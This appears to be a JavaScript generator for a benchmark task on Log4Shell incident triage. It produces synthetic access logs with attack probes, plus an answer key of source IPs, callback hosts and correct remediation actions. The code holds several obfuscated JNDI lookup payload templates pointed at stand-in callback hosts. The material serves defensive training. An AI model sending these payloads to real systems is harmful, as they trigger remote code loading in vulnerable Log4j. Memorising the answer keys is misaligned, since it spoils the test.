function mulberry32(seed) {
  let state = seed >>> 0;
  return () => {
    state = (state + 0x6d2b79f5) >>> 0;
    let t = Math.imul(state ^ (state >>> 15), state | 1);
    t = (t + Math.imul(t ^ (t >>> 7), t | 61)) ^ t;
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}

const rightActions = [
  'Upgrade log4j-core to 2.17.1 or newer on every host of the service.',
  'Until then, remove JndiLookup.class from the log4j-core archive and restart.',
  'Block outgoing LDAP, RMI and DNS traffic from the service to the callback hosts.',
  'Look for connections from the service to the callback hosts since the first probe, and isolate hosts that made one.',
];
const wrongActions = [
  'Block the company’s vulnerability scanner at the firewall.',
  'Delete the access log, since it holds attack strings.',
  'Raise the log level to DEBUG in production to see more of the payloads.',
  'Open the callback addresses in a browser on the service host to see what they return.',
  'Renew the TLS certificate of the service.',
  'Block every client that got a 404.',
];
const agents = ['Mozilla/5.0 (X11; Linux x86_64)', 'curl/7.79.1', 'okhttp/4.9.3', 'Java/11.0.13', 'ldap-browser/2.1', 'python-requests/2.26.0'];
const paths = ['/', '/login', '/api/items', '/api/items/77', '/static/app.js', '/health', '/search?q=lookup', '/docs/jndi.html', '/cart?user=${name}'];
const chatter = ['/search?q=CVE-2021-44228', '/search?q=what+is+jndi:ldap', '/blog/log4shell-explained', '/search?q=%24%7Buser.home%7D', '/?u=$jndi:ldap'];

export function generate({ count, seed, parameters }) {
  const random = mulberry32(seed);
  const int = (low, high) => low + Math.floor(random() * (high - low + 1));
  const pick = (items) => items[int(0, items.length - 1)];
  const shuffled = (items) => {
    const left = [...items];
    return items.map(() => left.splice(int(0, left.length - 1), 1)[0]);
  };
  const hex = (length) => Array.from({ length }, () => int(0, 15).toString(16)).join('');
  const percent = (text) => text.replace(/[${}:/]/g, (c) => `%${c.charCodeAt(0).toString(16).toUpperCase()}`);

  const disguises = [
    (protocol, rest) => `\${jndi:${protocol}${rest}}`,
    (protocol, rest) => `\${\${lower:j}ndi:${protocol}${rest}}`,
    (protocol, rest) => `\${\${lower:j}\${upper:n}\${lower:d}i:${protocol}${rest}}`,
    (protocol, rest) => `\${\${::-j}\${::-n}\${::-d}\${::-i}:\${::-${protocol[0]}}${protocol.slice(1)}${rest}}`,
    (protocol, rest) => `\${\${env:NOPE_${hex(2)}:-j}ndi\${sys:none:-:}${protocol}${rest}}`,
    (protocol, rest) => `\${j\${lower:\${lower:n}}di:${protocol}${rest}}`,
  ];
  const probe = (callback) => pick(disguises)(pick(['ldap', 'ldaps', 'rmi', 'dns']), `://${callback}/${hex(4)}`);

  return Array.from({ length: count }, () => {
    const used = new Set();
    const address = (prefix) => {
      for (;;) {
        const ip = `${prefix}.${int(1, 254)}`;
        if (!used.has(ip)) return used.add(ip) && ip;
      }
    };
    const client = () => address(pick(['198.51.100', '203.0.113', '192.0.2']));
    const scanner = address('10.20.30');
    const attackers = Array.from({ length: int(3, 6) }, client);
    const visitors = Array.from({ length: int(8, 14) }, client);
    const hosts = Array.from({ length: int(2, 4) }, () =>
      random() < 0.5 ? `${address('198.18.7')}:${int(1024, 9999)}` : `${hex(6)}.example.net${random() < 0.5 ? '' : `:${int(1024, 9999)}`}`,
    );
    let time = int(0, 3600);
    const stamp = () => {
      time += int(1, 40);
      const two = (number) => String(number).padStart(2, '0');
      return `10/Dec/2021:${two(8 + Math.floor(time / 3600))}:${two(Math.floor(time / 60) % 60)}:${two(time % 60)} +0000`;
    };
    const line = (ip, path, referrer, agent) =>
      `${ip} - - [${stamp()}] "GET ${path} HTTP/1.1" ${pick([200, 200, 304, 404])} ${int(90, 9000)} "${referrer}" "${agent}"`;
    const attack = (ip, callback) => {
      const text = probe(callback);
      switch (int(0, 2)) {
        case 0:
          return () => line(ip, `/?x=${percent(text)}`, '-', pick(agents));
        case 1:
          return () => line(ip, pick(paths), text, pick(agents));
        default:
          return () => line(ip, pick(paths), '-', text);
      }
    };
    const uses = attackers.map((ip, i) => [ip, hosts[i % hosts.length]]);
    const events = [
      ...uses.map(([ip, host]) => attack(ip, host)),
      ...Array.from({ length: int(0, 3) }, () => attack(...pick(uses))),
      ...Array.from({ length: 2 }, () => attack(scanner, `scanner-${hex(3)}.corp.example:1389`)),
      ...visitors.slice(0, 4).map((ip) => () => line(ip, pick(chatter), '-', pick(agents))),
      // Attackers look like visitors too, most of the time.
      ...attackers.slice(0, 2).map((ip) => () => line(ip, pick(paths), '-', pick(agents))),
    ];
    const total = parameters?.lines ?? int(35, 50);
    while (events.length < total) {
      const ip = pick(visitors);
      events.push(() => line(ip, pick(paths), random() < 0.3 ? 'https://example.org/' : '-', pick(agents)));
    }
    const actions = shuffled([
      ...shuffled(rightActions).slice(0, int(2, 4)).map((text) => ({ id: `A${hex(3)}`, text, right: true })),
      ...shuffled(wrongActions).slice(0, int(3, 5)).map((text) => ({ id: `A${hex(3)}`, text, right: false })),
    ]);
    return {
      input: {
        service: pick(['inventory-api', 'billing', 'parcel-tracker', 'campus-portal']),
        version: pick(['2.14.1', '2.13.3', '2.12.1']),
        scanner,
        log: shuffled(events)
          .map((event) => event())
          .join('\n'),
        actions: actions.map(({ id, text }) => `- ${id}: ${text}`).join('\n'),
      },
      expected: {
        cve: 'CVE-2021-44228',
        source_ips: attackers,
        callbacks: [...new Set(uses.map(([, host]) => (/:\d+$/.test(host) ? host : `${host}:389`)))],
        actions: actions.filter(({ right }) => right).map(({ id }) => id),
      },
    };
  });
}
